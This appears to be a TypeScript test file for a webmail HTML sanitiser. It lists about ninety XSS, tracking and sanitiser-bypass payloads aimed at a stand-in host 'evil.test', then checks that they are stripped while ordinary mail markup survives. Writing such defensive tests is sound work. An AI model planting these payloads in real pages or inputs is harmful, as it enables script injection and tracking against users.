import { expect } from 'chai';
import { type InlinePicture, sanitizePage } from '../../../src/mail/sanitize/html.ts';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const FILES: Readonly<Record<string, InlinePicture>> = {
  'logo@example.org': { bytes: PNG },
  'drawing@example.org': { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
};

const show = (html: string, maxLength = 1_000_000) => sanitizePage(html, (id) => FILES[id], { maxLength });
/** The page without our own head and tail. */
const shown = (html: string) =>
  show(html)
    .html.replace(/^.*?<body>/s, '')
    .replace('</body></html>', '');

/** Everything by which a mail has been seen to run something or to fetch something, in a browser or in another reader. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src="http://evil.test/1.js"></script>',
  '<SCRIPT/SRC=http://evil.test/2.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="http://evil.test/3.gif">',
  '<img src="//evil.test/4.gif" srcset="http://evil.test/5.gif 2x">',
  '<img src=" \n\tht\ntp://evil.test/6.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<image src="http://evil.test/7.gif">',
  '<picture><source srcset="http://evil.test/8.gif"></picture>',
  '<iframe src="http://evil.test/9"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="http://evil.test/10"></frameset>',
  '<object data="http://evil.test/11"></object>',
  '<embed src="http://evil.test/12">',
  '<meta http-equiv="refresh" content="0;url=http://evil.test/13">',
  '<base href="http://evil.test/14/"><img src="x.gif">',
  '<link rel="stylesheet" href="http://evil.test/15.css">',
  '<link rel="preconnect" href="http://evil.test">',
  '<link rel="dns-prefetch" href="//evil.test">',
  '<form action="http://evil.test/16"><input name="password"><button formaction="http://evil.test/17">Go</button></form>',
  '<a href="http://evil.test/18" ping="http://evil.test/19">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<area href="http://evil.test/20">',
  '<video poster="http://evil.test/21" src="http://evil.test/22" autoplay></video>',
  '<audio src="http://evil.test/23" autoplay></audio>',
  '<video><track src="http://evil.test/24"></video>',
  '<body background="http://evil.test/25">',
  '<table background="http://evil.test/26"><tr><td background="http://evil.test/27"></table>',
  '<div style="background:url(http://evil.test/28)">',
  `<div style="background:u\\72l('http://evil.test/29')">`,
  '<div style="background:url/**/(http://evil.test/30)">',
  '<div style="background:&#117;rl(http://evil.test/31)">',
  '<div style="background-image:image-set(\'http://evil.test/32\' 1x)">',
  '<div style="background-image:-webkit-image-set(\'http://evil.test/33\' 1x)">',
  '<div style="background:image(\'http://evil.test/34\')">',
  '<div style="list-style-image:URL(http://evil.test/35)">',
  '<div style="width:expression(alert(1))">',
  '<div style="-moz-binding:url(http://evil.test/36)">',
  '<div style="behavior:url(#default#time2)">',
  '<div style="--a:url(http://evil.test/37);background:var(--a)">',
  '<style>@import "http://evil.test/38.css";</style>',
  '<style>@import url(http://evil.test/39.css);</style>',
  '<style>@\\69mport "http://evil.test/40.css";</style>',
  '<style>@font-face{font-family:x;src:url(http://evil.test/41)}p{font-family:x}</style>',
  '<style>p{background:url("http://evil.test/42")}</style>',
  `<style>p{color:red;x:"}*{background:url(http://evil.test/43)}"}</style>`,
  `<style>p{x:'\n;background:url(http://evil.test/44)}</style>`,
  '<style>@media screen{p{background:url(http://evil.test/45)}}</style>',
  '<style>@media screen{@import "http://evil.test/46";}</style>',
  '<style>p{}/*</style><script>alert(1)</script>*/',
  '<style>p::before{content:"</style><script>alert(1)</script>"}</style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<svg><image href="http://evil.test/47"/></svg>',
  '<svg><use xlink:href="http://evil.test/48#x"/></svg>',
  '<svg><style>@import "http://evil.test/49"</style></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><filter><feImage href="http://evil.test/50"/></filter></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math href="http://evil.test/51">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src="http://evil.test/52"></noembed>',
  '<xmp><img src="http://evil.test/53"></xmp>',
  '<textarea><img src="http://evil.test/54"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src="http://evil.test/55"></template>',
  '<plaintext><img src="http://evil.test/56">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?xml-stylesheet href="http://evil.test/57"?>',
  '<p title="x" onclick="alert(1)" onfocus=alert(1) autofocus tabindex=1>',
  "<p title='\"><img src=x onerror=alert(1)>'>",
  '<p/onclick=alert(1)>',
  '<p style="color:red&quot; onclick=&quot;alert(1)">',
  '<isindex action="http://evil.test/58">',
  '<bgsound src="http://evil.test/59">',
  '<input type="image" src="http://evil.test/60">',
  '<portal src="http://evil.test/61"></portal>',
  '<img src="cid:drawing@example.org">',
  '<img src="cid:nothing@example.org">',
  '<div style="background:url(cid:logo@example.org)">',
  '<img\u0000src="http://evil.test/62">',
  '<\u0000script>alert(1)</script>',
  '<img src="http://evil.test/63" style="',
  '<div style="background:url(http://evil.test/64',
  '<style>p{background:url(http://evil.test/65',
];

/** The tags of a page and their attributes, by a reader that shares nothing with the one of src/. */
function tagsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  const found = [];
  for (const [, name = '', rest = ''] of html.matchAll(/<([a-z][^\s>]*)((?:[^>"]|"[^"]*")*)>/gi)) {
    const attributes: Record<string, string> = {};
    for (const [, key = '', , value = ''] of rest.matchAll(/([^\s=]+)(="([^"]*)")?/g)) attributes[key] = value;
    found.push({ name, attributes });
  }
  return found;
}

const FORBIDDEN =
  /^(?:script|iframe|frame|frameset|object|embed|meta|base|link|form|input|button|svg|math|video|audio|source|track|area|image|portal|template|textarea|noscript)$/;

function expectHarmless(mail: string): void {
  const page = shown(mail);
  for (const { name, attributes } of tagsOf(page)) {
    expect(name, mail).to.not.match(FORBIDDEN);
    for (const [key, value] of Object.entries(attributes)) {
      expect(key, mail).to.not.match(/^(?:on|href$|srcset$|background$|action$|formaction$|ping$|poster$|data$|xlink)/);
      if (key === 'src') expect(value, mail).to.match(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
      if (key === 'style') expect(value, mail).to.not.match(/url\(|image|expression|binding|behavior|\\/i);
    }
  }
  for (const [, css = ''] of page.matchAll(/<style>(.*?)<\/style>/gs))
    expect(css, mail).to.not.match(/url|@import|@font-face|evil|</i);
}

describe('the HTML of a mail, sanitised for display', () => {
  for (const mail of HOSTILE)
    it(`removes everything that runs or loads from ${JSON.stringify(mail).slice(0, 90)}`, () => expectHarmless(mail));

  it('removes all of them together, in either order', () => {
    expectHarmless(HOSTILE.join('\n'));
    expectHarmless(HOSTILE.toReversed().join('\n'));
  });

  it('removes any of them truncated anywhere', () => {
    for (const mail of HOSTILE) for (let end = 1; end < mail.length; end++) expectHarmless(mail.slice(0, end));
  });

  it('keeps the elements of ordinary mail', () => {
    expect(
      shown(
        '<table width="600" bgcolor="#fff"><tr><td align=center style="color: red; font-family: \'Segoe UI\', Arial">' +
          'Hello <b>Ann</b> &amp; Bob<br/>5 &lt; 6</td></tr></table>',
      ),
    ).to.equal(
      '<table width="600" bgcolor="#fff"><tr><td align="center" style="color:red;font-family:&#39;Segoe UI&#39;, Arial;">' +
        'Hello <b>Ann</b> &amp; Bob<br>5 &lt; 6</td></tr></table>',
    );
  });

  it('keeps style sheets, including those for narrow screens', () => {
    expect(
      shown(
        '<head><style><!-- /* ours */ .a, td > p:first-child { color: #333; background: linear-gradient(red, blue) }\n' +
          '@media only screen and (max-width: 600px) { .b { width: calc(100% - 4px) !important } } --></style></head>Hi',
      ),
    ).to.equal(
      '<style>.a, td > p:first-child{color:#333;background:linear-gradient(red, blue);}\n' +
        '@media only screen and (max-width: 600px){.b{width:calc(100% - 4px) !important;}}</style>Hi',
    );
  });

  it('embeds the pictures of the mail, and counts omitted ones', () => {
    const { html, leftOut } = show(
      '<img src="cid:logo@example.org" alt="Logo"><img src="cid:logo%40example.org"><img src="http://x.test/p.gif" alt="Shop">',
    );
    const data = `data:image/png;base64,${PNG.toString('base64')}`;
    expect(html.split(`src="${data}"`)).to.have.length(3);
    expect(html).to.contain('<span class="postern-left-out">Shop</span>');
    expect(leftOut).to.equal(1);
  });

  it('keeps a raster picture in the HTML itself', () => {
    const data = `data:image/png;base64,${PNG.toString('base64')}`;
    expect(shown(`<img src="${data}">`)).to.equal(`<img src="${data}">`);
  });

  it('lists the links as text, and removes them from the page', () => {
    const { html, links } = show(
      'See <a href="https://shop.example/?a=1&amp;b=2">our\n<b>shop</b></a>, <a href="#top">top</a>, <a>x</a>',
    );
    expect(links).to.deep.equal([{ text: 'our shop', href: 'https://shop.example/?a=1&b=2' }]);
    expect(html).to.not.contain('href');
    expect(html).to.contain('<a title="https://shop.example/?a=1&amp;b=2">our');
  });

  it('truncates a page that is too long, between two elements, and marks it', () => {
    const page = show('<p>Hello</p>'.repeat(1_000), 2_000);
    expect(page.cut).to.equal(true);
    expect(page.html)
      .to.have.length.at.most(2_000)
      .and.to.match(/(?:<p>|Hello|<\/p>)<\/body><\/html>$/);
    expect(show('<p>Hello</p>', 2_000).cut).to.equal(false);
  });

  it('omits a picture that does not fit, and shows the rest', () => {
    const page = sanitizePage('<img src="cid:x">Hello', () => ({ bytes: Buffer.concat([PNG, Buffer.alloc(5_000)]) }), {
      maxLength: 2_000,
    });
    expect(page).to.deep.include({ leftOut: 1, cut: false });
    expect(page.html).to.contain('<body>Hello</body>');
  });
});
